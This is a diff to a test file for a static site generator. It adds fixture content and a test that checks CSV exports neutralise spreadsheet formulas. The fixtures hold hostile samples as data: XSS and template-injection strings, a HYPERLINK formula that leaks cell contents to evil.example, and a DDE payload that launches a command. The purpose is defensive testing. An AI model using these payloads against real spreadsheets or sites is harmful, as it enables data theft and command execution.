@@ -6,6 +6,7 @@
 import { existsSync } from 'node:fs';
 import { readFile, readdir } from 'node:fs/promises';
 import path from 'node:path';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { XMLParser, XMLValidator } from 'fast-xml-parser';
 import { parse } from 'node-html-parser';
 import { register } from 'tsx/esm/api';
@@ -58,6 +59,16 @@ beforeAll(async () => {
       `A template: ${ssti(marker)} and {% raw %}{{ 8*8 }}{% endraw %} and \${process.exit(1)}.`,
       '<style>body{display:none}</style><meta http-equiv="refresh" content="0;url=javascript:alert(12)">',
       '“<script>alert(13)</script>,” said Evil" onmouseover="alert(5).',
+      '',
+    ].join('\n'),
+    // Text that a spreadsheet opening data/*.csv would take for formulas (OWASP "CSV injection").
+    'articles/formula.txt': [
+      '---',
+      `headline: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'`,
+      'date: 2021-05-03',
+      `summary: "@SUM(1+1)*cmd|' /C calc'!A0"`,
+      '---',
+      'Jean Dupont of Alliance said the figures were wrong on Tuesday.',
       '',
     ].join('\n'),
     'articles/evil-markdown.md': [
@@ -143,9 +154,18 @@ describe('a site built from hostile content', () => {
     expect(doc.querySelector('meta[name="description"]')?.getAttribute('content')).toBe("<iframe src=javascript:alert('summary')></iframe>");
   });
 
-  // Known issue, in src/site/csv.ts: a cell starting with = + - @ is a formula to a spreadsheet
-  // opening data/*.csv (OWASP "CSV injection"); neutralizing it (a leading ') is the owner's call.
-  it.todo('should keep data/*.csv cells from starting a spreadsheet formula');
+  it('should keep data/*.csv cells from starting a spreadsheet formula, and archive.json as written', () => {
+    const csvs = [...files].filter(([f]) => f.startsWith('data/') && f.endsWith('.csv'));
+    expect(csvs.length).toBeGreaterThan(0);
+    for (const [f, text] of csvs) {
+      for (const row of parseCsv(text, { relax_quotes: true }) as string[][]) for (const cell of row) expect(cell, f).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    const article = (parseCsv(files.get('data/articles.csv')!, { columns: true }) as Record<string, string>[]).find((r) => r['id'] === 'formula');
+    expect(article?.['headline']).toBe(`'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`);
+    expect(article?.['summary']).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+    const json = JSON.parse(files.get('data/archive.json')!) as { articles: { id: string; headline: string }[] };
+    expect(json.articles.find((a) => a.id === 'formula')?.headline).toBe(`=HYPERLINK("https://evil.example/?leak="&A1,"Click")`);
+  });
 
   it('should never evaluate template code found in the content', () => {
     expect(existsSync(marker)).toBe(false);
